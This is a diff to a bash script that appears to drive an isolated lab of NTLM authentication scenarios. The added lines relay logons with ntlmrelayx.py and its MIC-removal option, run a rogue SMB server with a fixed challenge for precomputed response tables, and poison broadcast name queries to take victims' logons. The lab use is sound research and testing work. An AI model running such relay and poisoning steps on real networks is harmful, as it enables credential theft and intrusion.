@@ -10,7 +10,7 @@ relay() {
   shift 2
   [ "$port" = 80 ] || other=--no-http-server
   local arguments=(-t "$target" "$other" --no-wcf-server --no-raw-server --no-winrm-server --no-rpc-server
-    --no-mssql-server --no-rdp-server -smb2support)
+    --no-mssql-server --no-rdp-server -smb2support "${TAMPER[@]}")
   echo "# on rogue: ntlmrelayx.py ${arguments[*]}" >>"$COMMANDS"
   # Its prompt ends the program when its input does.
   (cd "$RUN/rogue" && sleep 14 | on rogue timeout -s INT 13 "$VENV/bin/python" -u "$VENV/bin/ntlmrelayx.py" \
@@ -24,11 +24,16 @@ relay() {
   LIMIT=8 "$@"
   wait "$pid"
 }
+TAMPER=()
 VICTIM_SMB=(smb //rogue.lab.test/data "${ALICE[@]}" "${NO_KERBEROS[@]}" -c ls)
 VICTIM_HTTP=(python "$LAB/clients/http_auth.py" http://rogue.lab.test/x 'LAB\alice' "$PASSWORD" NTLM ntlm)
 
 scenario 11-relay-smb-to-smb 'The victim opens a share on rogue, which carries the logon on to the file server.' \
   relay smb://10.77.0.11 445 "${VICTIM_SMB[@]}"
+TAMPER=(--remove-mic)
+scenario 11-relay-mic-removed 'The same, and rogue takes away the MIC and what asks for signing.' \
+  relay smb://10.77.0.11 445 "${VICTIM_SMB[@]}"
+TAMPER=()
 CLIENT='pyspnego, impacket'
 scenario 11-relay-http-to-smb 'The victim fetches a page from rogue, which carries the logon on to the file server.' \
   relay smb://10.77.0.11 80 "${VICTIM_HTTP[@]}"
@@ -93,15 +98,50 @@ scenario 11-spnego-downgrade 'Kerberos is overwritten in the list of the client,
 # A tool that collects responses gives everybody one challenge.
 CLIENT='smbclient' SERVER='impacket' SHIM=''
 FILTER='not arp and not icmp6 and not port 5353 and host 10.77.0.66'
+
+# collected CHALLENGE TIMES COMMAND...: with that server on rogue; an empty CHALLENGE is a new one each time.
 collected() {
-  local pid
-  ip netns exec lab-rogue "$VENV/bin/python" "$LAB/clients/rogue_smb.py" >"$WORK/rogue.log" 2>&1 &
+  local challenge=$1 times=$2 pid
+  shift 2
+  echo "# on rogue: rogue_smb.py $challenge" >>"$COMMANDS"
+  # shellcheck disable=SC2086 # It may be none.
+  ip netns exec lab-rogue "$VENV/bin/python" "$LAB/clients/rogue_smb.py" $challenge >"$WORK/rogue.log" 2>&1 &
   pid=$!
   wait_for_port rogue 445
-  local times
-  for times in 1 2 3; do smb //rogue.lab.test/data "${ALICE[@]}" "${NO_KERBEROS[@]}" -c ls; done
+  while [ "$times" -gt 0 ]; do
+    "$@"
+    times=$((times - 1))
+  done
   kill "$pid"
-  return 0
 }
-scenario 11-rogue-server 'A server with the challenge that tables of responses are made for; three logons.' collected
+scenario 11-rogue-server 'A server with the challenge that tables of responses are made for; three logons.' \
+  collected 1122334455667788 3 smb //rogue.lab.test/data "${ALICE[@]}" "${NO_KERBEROS[@]}" -c ls
+
+# Names that no DNS server knows are asked of the network, and whoever hears it may answer.
+BROADCAST=(--option='name resolve order = bcast' -U "LAB/alice%$PASSWORD" --use-kerberos=off -c ls)
+FILTER='(host 10.77.0.66 or udp port 137) and not arp and not icmp6 and not port 5353'
+poisoned() {
+  local pid
+  echo '# on rogue: answer_names.py 10.77.0.66' >>"$COMMANDS"
+  ip netns exec lab-rogue /usr/bin/python3 "$LAB/clients/answer_names.py" 10.77.0.66 >"$WORK/names.log" 2>&1 &
+  pid=$!
+  "$@"
+  kill "$pid"
+}
+SHIM='clients/answer_names.py answers for every name'
+scenario 11-name-poisoning 'The client asks the network for a name that nobody has; rogue answers with its own address and takes the logon.' \
+  poisoned collected '' 1 smb //FILESRV/data "${BROADCAST[@]}"
+SHIM='' SERVER='Samba smbd, Samba nmbd'
+FILTER='(host 10.77.0.12 or udp port 137) and not arp and not icmp6 and not port 5353'
+# with_alias COMMAND...: wg answers for another name of its own, as a file server after a move does.
+with_alias() {
+  sed -e "s/netbios name = WG/&\\n\\tnetbios aliases = ARCHIVE/" -e "s/interfaces = lo eth0/interfaces = eth0/" "$RUN/wg/smb.conf" >"$RUN/wg/alias.conf"
+  echo '# on wg: nmbd with "netbios aliases = ARCHIVE"' >>"$COMMANDS"
+  daemon nmbd-wg wg nmbd -s "$RUN/wg/alias.conf" -F --no-process-group --debug-stdout
+  sleep 12
+  "$@"
+  stop nmbd-wg
+}
+scenario 11-no-poisoning-alias 'The client asks the network for a name, and the server answers that has it as a second name.' \
+  with_alias smb //ARCHIVE/data --option='name resolve order = bcast' "${CAROL[@]}" "${NO_KERBEROS[@]}" -c ls
 unset FILTER
